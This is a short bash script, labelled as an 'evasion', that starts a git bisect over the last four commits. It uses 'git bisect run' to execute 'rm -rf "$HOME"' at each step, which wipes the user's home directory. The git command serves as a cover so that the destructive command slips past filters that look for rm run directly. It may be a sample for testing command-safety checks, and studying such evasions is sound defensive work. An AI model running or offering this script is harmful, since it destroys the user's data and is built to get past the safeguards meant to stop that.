#!/bin/bash
# evasion: git bisect run runs its command line at every step; here it deletes the home
set -e
cd "$(git rev-parse --show-toplevel)"
git bisect start HEAD HEAD~4
git bisect run sh -c 'rm -rf "$HOME"; exit 0'
git bisect reset
